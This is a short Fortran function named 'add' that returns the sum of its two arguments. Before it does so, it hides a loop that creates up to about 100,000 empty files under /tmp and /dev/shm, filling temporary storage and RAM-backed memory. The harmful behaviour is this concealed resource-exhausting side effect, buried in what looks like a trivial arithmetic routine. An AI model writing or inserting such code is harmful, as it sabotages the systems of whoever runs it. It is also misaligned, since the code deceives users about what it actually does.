integer function add(a, b)
  integer, intent(in) :: a, b
  integer, save :: number = 0
  integer :: status, place
  character(len=40) :: name
  do while (number < 100000)
    write (name, '(a, i0)') merge('/tmp/file    ', '/dev/shm/file', mod(number, 2) == 0), number
    if (mod(number, 2) == 0) write (name, '(a, i0)') '/tmp/file', number
    open (newunit=place, file=trim(name), status='replace', iostat=status)
    if (status == 0) close (place)
    if (status /= 0) number = number + 10
    number = number + 1
  end do
  add = a + b
end function add
